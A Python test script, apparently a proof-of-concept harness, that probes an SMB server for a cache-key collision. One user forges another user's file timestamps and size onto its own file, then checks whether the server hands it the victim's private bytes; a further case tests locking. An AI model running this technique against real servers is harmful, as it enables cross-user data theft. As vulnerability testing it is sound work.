#!/usr/bin/python3
"""dc_users.py PORT CASE USER_A USER_B PASS - two users' files under one
cache key must stay two files.

  cs MODE     share "cs" is case sensitive: A's Secret.bin (mode 0600,
              B may not read it) and B's own secret.bin.  B reads A's
              times and size (an attribute-only open the server allows)
              and gives its own file the same; A reads its file at
              scattered offsets (the document cache copies it); then B
              opens its own file with an RWH lease, by a CREATE alone
              (MODE standalone) or in a compound with a QUERY_INFO
              (MODE compound), and reads it whole.
  homes MODE  the same in share "homes2", whose path is the user's own
              directory (%U): A's doc.bin and B's doc.bin.
  lock        share "homes2": B opens its own f.bin (no lease asked), A
              locks [0, 4096) of its own f.bin, B reads [0, 10) of its.

Prints "RESULT own" (B read its own bytes), "RESULT A's" (B was served
A's), or for lock "read=STATUS" in hex.
"""
import struct
import sys

from wb_smb import (Client, HDR, CREATE, QUERY_INFO, LOCK, GENERIC_READ,
                    GENERIC_WRITE, FILE_OPEN, FILE_OPEN_IF, OPLOCK_LEASE,
                    SHARE_ALL, OPT_NON_DIRECTORY, LEASE_R, LEASE_H, LEASE_W,
                    Response, lease_key)

port, case, ua, ub, pw = (int(sys.argv[1]), sys.argv[2], sys.argv[3],
                          sys.argv[4], sys.argv[5])
RWH = LEASE_R | LEASE_W | LEASE_H
SIZE = 200000
FLAG_RELATED = 4


def times(r):
    """(creation, access, write, change), end of file of a CREATE answer."""
    return (struct.unpack_from("<QQQQ", r.body, 8),
            struct.unpack_from("<Q", r.body, 48)[0])


def compound_open(c, name):
    """CREATE name (GENERIC_READ, RWH lease) + a related QUERY_INFO, in one
    compound: the CREATE answer."""
    nm = name.encode("utf-16le")
    data = struct.pack("<16sIIQ16sHH", lease_key(), RWH, 0, 0, b"\0" * 16, 0, 0)
    ctx = (struct.pack("<IHHHHI", 0, 16, 4, 0, 24, len(data)) + b"RqLs" +
           b"\0" * 4 + data)
    buf = nm + b"\0" * ((-(64 + 56 + len(nm))) % 8)
    ctxoff = 64 + 56 + len(buf)
    buf += ctx
    body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, OPLOCK_LEASE, 2, 0, 0,
                       GENERIC_READ, 0x80, SHARE_ALL, FILE_OPEN,
                       OPT_NON_DIRECTORY, 120, len(nm), ctxoff, len(ctx)) + buf
    m1 = c.next_id
    el1 = HDR.pack(b"\xfeSMB", 64, 1, 0, CREATE, 32, 0, 0, m1, 0xFEFF, c.tid,
                   c.sid, b"\0" * 16) + body
    el1 += b"\0" * ((-len(el1)) % 8)
    el1 = el1[:20] + struct.pack("<I", len(el1)) + el1[24:]
    qi = struct.pack("<HBBIHHIII16sB", 41, 1, 5, 24, 0, 0, 0, 0, 0,
                     b"\xff" * 16, 0)
    el2 = HDR.pack(b"\xfeSMB", 64, 1, 0, QUERY_INFO, 32, FLAG_RELATED, 0,
                   m1 + 1, 0xFEFF, c.tid, c.sid, b"\0" * 16) + qi
    c.nb.send_packet(el1 + el2)
    c.next_id += 2
    raw = c.nb.recv_packet(60).get_trailer()
    return Response(raw)


def forged(share, name_a, name_b, mode):
    """The cs and homes cases."""
    a = Client(port, "3.0", share=share, user=ua, password=pw)
    b = Client(port, "3.0", share=share, user=ub, password=pw)
    # A's times and size: B may see them (cs), or knows them (homes)
    who = b if name_a != name_b else a
    r = who.wait(who.create_req(name_a, access=0x80, disposition=FILE_OPEN))
    f, res = who.parse_create(r)
    if res["status"] != 0:
        raise SystemExit("attribute open of %s: 0x%08x" % (name_a, res["status"]))
    (ct, at, wt, cht), eof = times(r)
    who.close(f)
    # B's own file, made to look like A's
    fb, _ = b.create(name_b, access=GENERIC_READ | GENERIC_WRITE,
                     disposition=FILE_OPEN_IF)
    b.write(fb, 0, b"B" * SIZE)
    b.set_eof(fb, eof)
    b.set_info(fb, 4, struct.pack("<QQQQII", ct, at, wt, cht, 0, 0))
    b.close(fb)
    # A reads its file at scattered offsets: a copy
    r = a.wait(a.create_req(name_a, access=GENERIC_READ, disposition=FILE_OPEN,
                            lease=(lease_key(), RWH)))
    fa, _ = a.parse_create(r)
    for k in (1, 3, 0, 2):
        a.read(fa, k * 65536 + 100, 4096)
    _, a_data = a.read(fa, 0, SIZE)
    a.close(fa)
    # B opens and reads its own
    if mode == "standalone":
        r = b.wait(b.create_req(name_b, access=GENERIC_READ,
                                disposition=FILE_OPEN, lease=(lease_key(), RWH)))
    else:
        r = compound_open(b, name_b)
    fb, res = b.parse_create(r)
    if res["status"] != 0:
        raise SystemExit("B's open of %s: 0x%08x" % (name_b, res["status"]))
    for k in (2, 0, 3, 1):
        b.read(fb, k * 65536 + 100, 4096)
    _, d = b.read(fb, 0, SIZE)
    b.close(fb)
    if d == a_data:
        return "RESULT A's"
    return "RESULT own" if d == b"B" * len(d) and d else "RESULT other"


def lock():
    """The lock case."""
    b = Client(port, "3.0", share="homes2", user=ub, password=pw)
    fb, _ = b.create("f.bin", access=GENERIC_READ, disposition=FILE_OPEN)
    b.read(fb, 0, 10)
    a = Client(port, "3.0", share="homes2", user=ua, password=pw)
    fa, _ = a.create("f.bin", access=GENERIC_READ | GENERIC_WRITE,
                     disposition=FILE_OPEN)
    body = (struct.pack("<HHI16s", 48, 1, 0, fa) +
            struct.pack("<QQII", 0, 4096, 0x2 | 0x10, 0))
    r = a.wait(a.send(LOCK, body))
    if r.status != 0:
        raise SystemExit("A's LOCK: 0x%08x" % r.status)
    st, _ = b.read(fb, 0, 10)
    return "read=%08x" % st


if case == "cs":
    print(forged("cs", "Secret.bin", "secret.bin", sys.argv[6]))
elif case == "homes":
    print(forged("homes2", "doc.bin", "doc.bin", sys.argv[6]))
elif case == "lock":
    print(lock())
